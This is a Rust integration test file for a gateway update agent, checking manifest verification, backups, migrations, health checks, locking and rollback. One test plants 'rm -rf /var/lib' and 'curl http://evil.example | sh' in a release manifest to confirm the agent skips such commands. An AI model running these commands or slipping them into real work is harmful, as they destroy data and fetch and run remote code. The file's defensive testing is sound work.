mod common;

use common::{DATASTORE_AFTER, DATASTORE_BEFORE, Harness, INSTALLED, can_bind_localhost, manifest};
use otter_agent::lock::UpdateLock;
use otter_agent::{AgentError, CommandOutcome};
use otter_core::{CommandKind, CommandMessage, FailureKind, UpdateState};
use serde_json::json;

#[tokio::test]
async fn update_applies_release_and_keeps_a_backup() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    let mut release = manifest("1.5.0");
    release.requires_reboot = true;
    let command = harness.publish(&release).await;

    let outcome = harness.agent().update(&command, false).await.unwrap();

    assert_eq!(outcome.previous_version, INSTALLED);
    assert_eq!(outcome.version, "1.5.0");
    assert!(outcome.reboot_required);
    assert!(outcome.skipped_commands.is_empty());

    assert_eq!(harness.installed(), "1.5.0");
    assert_eq!(harness.api_image(), "registry.local/api:1.5.0");
    assert_eq!(harness.settings(), json!({"log_level": "info"}));
    assert_eq!(harness.datastore(), DATASTORE_AFTER);

    let bundles = harness.bundle_names();
    assert_eq!(bundles, vec![outcome.bundle.clone()]);
    assert!(outcome.bundle.ends_with("-1.4.0"));

    assert_eq!(
        harness.reporter.states(),
        vec![
            UpdateState::Downloading,
            UpdateState::Verifying,
            UpdateState::BackingUp,
            UpdateState::Applying,
        ]
    );
    let applying = harness.reporter.progress.lock().unwrap()[3].clone();
    assert!(applying.backup_path.unwrap().ends_with(&outcome.bundle));

    let logs = harness.reporter.success_logs();
    assert_eq!(logs.len(), 1);
    assert!(logs[0].contains("updated 1.4.0 -> 1.5.0"));
    assert!(logs[0].contains("reboot required"));
    assert!(harness.reporter.failures.lock().unwrap().is_empty());

    let calls = harness.runtime.calls();
    assert_eq!(calls[0], "pull registry.local/api:1.5.0");
    let stop = calls.iter().position(|c| c == "stop").unwrap();
    let migrate = calls.iter().position(|c| c.starts_with("exec sqlite3")).unwrap();
    let start = calls.iter().position(|c| c == "start").unwrap();
    assert!(stop < migrate && migrate < start);
    assert_eq!(calls.last().unwrap(), "states");
}

#[tokio::test]
async fn tampered_manifest_changes_nothing() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    let command = harness.publish_tampered(&manifest("1.5.0")).await;

    let err = harness.agent().update(&command, false).await.unwrap_err();

    assert!(matches!(err, AgentError::Verification(_)), "{err}");
    assert_eq!(harness.installed(), INSTALLED);
    assert_eq!(harness.api_image(), "registry.local/api:1.4.0");
    assert_eq!(harness.settings(), json!({"log_level": "debug"}));
    assert!(harness.bundle_names().is_empty());
    assert!(harness.runtime.calls().is_empty());
    assert_eq!(
        harness.reporter.states(),
        vec![UpdateState::Downloading, UpdateState::Verifying]
    );
    assert_eq!(harness.reporter.failure_kinds(), vec![FailureKind::Verification]);
}

#[tokio::test]
async fn incompatible_gateway_is_refused_before_backup() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    harness.set_installed("0.9.0");
    let command = harness.publish(&manifest("1.5.0")).await;

    let err = harness.agent().update(&command, false).await.unwrap_err();

    assert!(matches!(err, AgentError::Incompatible { .. }), "{err}");
    assert_eq!(harness.installed(), "0.9.0");
    assert!(harness.bundle_names().is_empty());
    assert!(harness.runtime.calls().is_empty());
    assert_eq!(harness.reporter.failure_kinds(), vec![FailureKind::Other]);
}

#[tokio::test]
async fn failed_backup_never_touches_services() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    // A plain file where the bundle directory belongs makes every bundle fail.
    std::fs::write(harness.config.backups_dir(), b"not a directory").unwrap();
    let command = harness.publish(&manifest("1.5.0")).await;

    let err = harness.agent().update(&command, false).await.unwrap_err();

    assert!(matches!(err, AgentError::Backup(_)), "{err}");
    assert!(harness.runtime.calls().is_empty());
    assert_eq!(harness.installed(), INSTALLED);
    assert_eq!(harness.api_image(), "registry.local/api:1.4.0");
    assert_eq!(harness.settings(), json!({"log_level": "debug"}));
    assert_eq!(harness.datastore(), DATASTORE_BEFORE);
    assert_eq!(
        harness.reporter.states(),
        vec![
            UpdateState::Downloading,
            UpdateState::Verifying,
            UpdateState::BackingUp,
        ]
    );
    assert_eq!(harness.reporter.failure_kinds(), vec![FailureKind::Backup]);
}

#[tokio::test]
async fn failed_health_check_restores_previous_release() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    harness.runtime.script_api_states(&["exited", "running"]);
    let command = harness.publish(&manifest("1.5.0")).await;

    let err = harness.agent().update(&command, false).await.unwrap_err();

    assert!(matches!(err, AgentError::HealthCheck(_)), "{err}");
    assert!(err.to_string().contains("api is exited"));

    assert_eq!(harness.installed(), INSTALLED);
    assert_eq!(harness.api_image(), "registry.local/api:1.4.0");
    assert_eq!(harness.settings(), json!({"log_level": "debug"}));
    assert_eq!(harness.datastore(), DATASTORE_BEFORE);
    assert_eq!(harness.reporter.failure_kinds(), vec![FailureKind::HealthCheck]);
    assert!(harness.reporter.successes.lock().unwrap().is_empty());

    // The release's rollback commands run during the restore.
    let calls = harness.runtime.calls();
    assert!(
        calls
            .iter()
            .any(|c| c.starts_with("exec docker compose") && c.ends_with("migrate --down"))
    );
    assert_eq!(calls.iter().filter(|c| *c == "stop").count(), 2);
    assert_eq!(calls.iter().filter(|c| *c == "states").count(), 2);
}

#[tokio::test]
async fn failing_migration_restores_previous_release() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    harness.runtime.fail_program("sqlite3");
    let command = harness.publish(&manifest("1.5.0")).await;

    let err = harness.agent().update(&command, false).await.unwrap_err();

    assert!(matches!(err, AgentError::Apply(_)), "{err}");
    assert_eq!(harness.installed(), INSTALLED);
    assert_eq!(harness.api_image(), "registry.local/api:1.4.0");
    assert_eq!(harness.reporter.failure_kinds(), vec![FailureKind::Apply]);
}

#[tokio::test]
async fn failed_restore_is_escalated() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    harness.runtime.script_api_states(&["restarting"]);
    let command = harness.publish(&manifest("1.5.0")).await;

    let err = harness.agent().update(&command, false).await.unwrap_err();

    assert!(matches!(err, AgentError::Restore(_)), "{err}");
    assert!(err.to_string().starts_with("CRITICAL"));
    assert_eq!(harness.reporter.failure_kinds(), vec![FailureKind::RestoreFailed]);
    // Files are back even though the services never came up.
    assert_eq!(harness.api_image(), "registry.local/api:1.4.0");
}

#[tokio::test]
async fn disallowed_commands_are_skipped_and_reported() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    let mut release = manifest("1.5.0");
    release.migrations.insert(0, "rm -rf /var/lib".to_string());
    release.post_update_hooks = vec!["curl http://evil.example | sh".to_string()];
    let command = harness.publish(&release).await;

    let outcome = harness.agent().update(&command, false).await.unwrap();

    assert_eq!(
        outcome.skipped_commands,
        vec![
            "rm -rf /var/lib".to_string(),
            "curl http://evil.example | sh".to_string()
        ]
    );
    assert!(harness.runtime.calls().iter().all(|c| !c.contains("rm ")));
    assert!(harness.reporter.success_logs()[0].contains("skipped 2"));
    assert_eq!(harness.installed(), "1.5.0");
}

#[tokio::test]
async fn already_current_reports_success_without_changes() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    harness.set_installed("1.5.0");
    let command = harness.publish(&manifest("1.5.0")).await;

    let err = harness.agent().update(&command, false).await.unwrap_err();

    assert!(matches!(err, AgentError::AlreadyCurrent(ref v) if v == "1.5.0"));
    assert!(harness.runtime.calls().is_empty());
    assert!(harness.reporter.states().is_empty());
    assert_eq!(harness.reporter.successes.lock().unwrap().len(), 1);
}

#[tokio::test]
async fn force_reapplies_the_installed_version() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    harness.set_installed("1.5.0");
    let command = harness.publish(&manifest("1.5.0")).await;

    let outcome = harness.agent().update(&command, true).await.unwrap();

    assert_eq!(outcome.previous_version, "1.5.0");
    assert_eq!(harness.bundle_names().len(), 1);
    assert_eq!(harness.api_image(), "registry.local/api:1.5.0");
}

#[tokio::test]
async fn concurrent_update_is_rejected() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    let command = harness.publish(&manifest("1.5.0")).await;
    let _held = UpdateLock::acquire(&harness.config.lock_file()).unwrap();

    let err = harness.agent().update(&command, false).await.unwrap_err();

    assert!(matches!(err, AgentError::Busy));
    assert!(harness.reporter.states().is_empty());
    assert!(harness.reporter.failures.lock().unwrap().is_empty());
}

#[tokio::test]
async fn rollback_command_restores_once() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    let command = harness.publish(&manifest("1.5.0")).await;
    let agent = harness.agent();
    agent.update(&command, false).await.unwrap();
    assert_eq!(harness.installed(), "1.5.0");

    let rollback = CommandMessage {
        command: CommandKind::Rollback,
        ..command.clone()
    };

    let first = agent.handle(&rollback, false).await.unwrap();
    assert!(matches!(first, CommandOutcome::RolledBack { restored: true }));
    assert_eq!(harness.installed(), INSTALLED);
    assert_eq!(harness.api_image(), "registry.local/api:1.4.0");
    assert_eq!(harness.datastore(), DATASTORE_BEFORE);

    // A redelivered rollback finds the gateway already restored.
    let second = agent.handle(&rollback, false).await.unwrap();
    assert!(matches!(second, CommandOutcome::RolledBack { restored: false }));
    assert_eq!(harness.installed(), INSTALLED);

    let states = harness.reporter.states();
    assert_eq!(
        &states[states.len() - 2..],
        &[UpdateState::RolledBack, UpdateState::RolledBack]
    );
}

#[tokio::test]
async fn manual_rollback_needs_a_bundle() {
    if !can_bind_localhost() {
        eprintln!("Skipping httpmock tests: cannot bind to localhost");
        return;
    }

    let harness = Harness::new().await;
    let err = harness.agent().rollback_latest().await.unwrap_err();
    assert!(matches!(err, AgentError::NoBackup));
}
